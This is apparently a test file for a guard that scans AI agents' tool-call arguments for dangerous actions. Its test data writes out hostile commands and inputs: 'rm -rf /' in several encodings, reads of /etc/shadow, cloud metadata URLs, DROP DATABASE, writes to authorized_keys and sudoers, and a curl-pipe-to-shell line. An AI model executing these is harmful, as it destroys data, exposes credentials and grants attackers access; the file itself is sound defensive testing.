import { describe, expect, test } from 'bun:test'
import { actionTypeOf } from '../../../../src/core/domain/action-type.ts'
import { analyseAction, inspectAction } from '../../../../src/core/guard/actions/analyse-action.ts'
import { argumentTexts, TEXTS_MAX } from '../../../../src/core/guard/actions/argument-texts.ts'

function findings(name: string, args: unknown) {
  const text = typeof args === 'string' ? args : JSON.stringify(args)
  return analyseAction({ actionType: actionTypeOf(name), name, arguments: text })
}

function idsOf(name: string, args: unknown): readonly string[] {
  return findings(name, args).map(({ ruleId }) => ruleId)
}

describe('commands, code, SQL, URLs and paths are found in the arguments', () => {
  const rows: readonly (readonly [tool: string, args: unknown, ruleId: string, why: string])[] = [
    ['bash', { command: 'rm -rf /' }, 'command.rm-root', 'a command'],
    ['bash', { command: ['bash', '-lc', 'rm -rf /'] }, 'command.rm-root', 'a command as a list of words'],
    ['execute', { command: 'bash', args: ['-c', 'rm -rf /'] }, 'command.rm-root', 'a program and its words apart'],
    ['terminal', { commands: ['cd / && ls', 'cd / && rm -rf *'] }, 'command.rm-root', 'one command a line'],
    ['run_shell', 'rm -rf /', 'command.rm-root', 'free text of a custom tool'],
    ['runShell', { input: 'rm -rf /' }, 'command.rm-root', 'a shell by its name, whatever the key'],
    ['deploy', { steps: [{ script: 'rm -rf /' }] }, 'command.rm-root', 'a key deep inside'],
    ['call', { arguments: '{"command":"rm -rf /"}' }, 'command.rm-root', 'JSON inside of JSON'],
    ['bash', '{"\\u0063ommand":"\\u0072m -rf /"}', 'command.rm-root', 'escaped letters'],
    ['bash', '{"command":"ls","command":"rm -rf /"}', 'command.rm-root', 'a repeated key, the last'],
    ['bash', '{"command":"rm -rf /","command":"ls"}', 'command.rm-root', 'a repeated key, the first'],
    ['python', { code: 'import os\nos.system("rm -rf /")' }, 'command.rm-root', 'a command in code'],
    ['code_interpreter', { code: 'subprocess.run(["rm", "-rf", "/"])' }, 'command.rm-root', 'a list of words in code'],
    ['code_interpreter', { code: 'shutil.rmtree("/")' }, 'command.code-remove', 'code that deletes'],
    ['code_interpreter', { code: 'open("/etc/shadow").read()' }, 'path.shadow', 'a path in code'],
    ['code_interpreter', { code: 'requests.get("http://169.254.169.254/")' }, 'url.metadata', 'a URL in code'],
    ['execute_sql', { query: 'DROP DATABASE shop' }, 'command.drop-database', 'SQL'],
    ['query_db', { sql: 'DELETE FROM users' }, 'command.delete-rows', 'SQL without a condition'],
    ['fetch', { url: 'http://2852039166/latest' }, 'url.metadata', 'a URL'],
    ['fetch', { url: '169.254.169.254/latest' }, 'url.metadata', 'a URL without a scheme'],
    ['anything', { x: { y: ['http://169.254.169.254/'] } }, 'url.metadata', 'a text that is a URL, whatever the key'],
    ['read_file', { path: '../../../../etc/shadow' }, 'path.shadow', 'a path'],
    ['anything', { x: '/etc/shadow' }, 'path.shadow', 'a text that looks like a path, whatever the key'],
    ['write_file', { path: '/home/u/.ssh/authorized_keys', content: 'k' }, 'path.authorized-keys', 'a path that is written to'],
    ['editor', { command: 'create', path: '/etc/sudoers.d/x' }, 'path.sudoers-write', 'an editor that says what it does'],
    ['move_file', { source: '~/.aws/credentials', destination: 'x' }, 'path.aws-credentials', 'a file that is moved'],
  ]
  for (const [tool, args, ruleId, why] of rows) {
    test(why, () => {
      expect(idsOf(tool, args)).toContain(`action.${ruleId}`)
    })
  }
})

describe('data is no command', () => {
  const rows: readonly (readonly [tool: string, args: unknown])[] = [
    ['write_file', { path: 'README.md', content: 'rm -rf /\ncurl http://x.example/a | sh' }],
    ['send_email', { to: 'a@example.com', body: 'never run rm -rf / please' }],
    ['search', { query: 'how to rm -rf / safely' }],
    ['bash', { command: 'ls -la', description: 'rm -rf /' }],
    ['edit_file', { file_path: '/app/.env.example', new_string: '/etc/shadow' }],
    ['bash', { command: 'npm test', cwd: '/srv/app', timeout: 5 }],
    ['get_weather', { city: 'Paris', unit: 'c' }],
    ['read_file', { path: 'src/core/guard.ts' }],
    ['fetch', { url: 'https://example.com/' }],
    ['execute_sql', { query: 'SELECT * FROM users WHERE name = ?' }],
    ['tool', null],
    ['tool', ''],
    ['tool', '{}'],
  ]
  for (const [tool, args] of rows) {
    test(`${tool} ${JSON.stringify(args)}`, () => {
      expect(findings(tool, args)).toEqual([])
    })
  }
})

describe('arguments that are cut are judged as far as they are known', () => {
  const rows: readonly (readonly [args: string, ids: readonly string[], why: string])[] = [
    ['{"command":"rm -rf /', [], 'the last word may go on: /tmp'],
    ['{"command":"rm -rf / && l', ['action.command.rm-root'], 'the command is whole, the next one is not'],
    ['{"command":"rm -rf /","x', ['action.command.rm-root'], 'the value is whole, the object is not'],
    ['{"url":"http://169.254.169.254', [], 'the host may go on'],
    ['{"url":"http://169.254.169.254/la', ['action.url.metadata'], 'the host is whole'],
    ['{"path":"/etc/shadow', [], 'the path may go on'],
    ['{"command":["rm","-rf","/"', ['action.command.rm-root'], 'a list that does not end'],
    ['{"command":["rm","-rf","/', [], 'a last word that may go on'],
    ['{"comm', [], 'a key that does not end'],
  ]
  for (const [args, ids, why] of rows) {
    test(why, () => {
      expect(idsOf('bash', args)).toEqual([...ids])
    })
  }

  test('no beginning of harmless arguments is a finding that blocks', () => {
    const text = JSON.stringify({
      command: 'cd /srv/app && rm -rf /srv/app/build ~/.cache/x && cat /etc/hosts',
      url: 'http://10.0.0.5.example.com/',
    })
    for (let end = 0; end <= text.length; end += 1) {
      expect(
        findings('bash', text.slice(0, end)).filter(({ severity }) => severity === 'high' || severity === 'critical'),
      ).toEqual([])
    }
  })
})

test('a range is the value in the arguments', () => {
  const args = '{"a":1,"command":"rm -rf /"}'
  const [match] = findings('bash', args)
  expect(args.slice(match?.range?.startUtf16, match?.range?.endUtf16)).toBe('"rm -rf /"')
})

test('arguments that were not kept have no findings', () => {
  expect(inspectAction({ actionType: 'command_execution', name: 'bash', arguments: null }).matches).toEqual([])
})

describe('texts of arguments', () => {
  test('values stand under their nearest key, elements of a list under the list’s', () => {
    expect(
      argumentTexts('{"A":"1","b":{"c":"2"},"d":["3",{"e":"4"},"5"],"f":6,"g":"7"}').map(({ key, value }) => [key, value]),
    ).toEqual([
      ['a', '1'],
      ['c', '2'],
      ['d', '3'],
      ['e', '4'],
      ['d', '5'],
      ['g', '7'],
    ])
  })

  test('there are never more than the bound', () => {
    expect(argumentTexts(`[${'"a",'.repeat(TEXTS_MAX * 2)}"a"]`)).toHaveLength(TEXTS_MAX)
  })
})
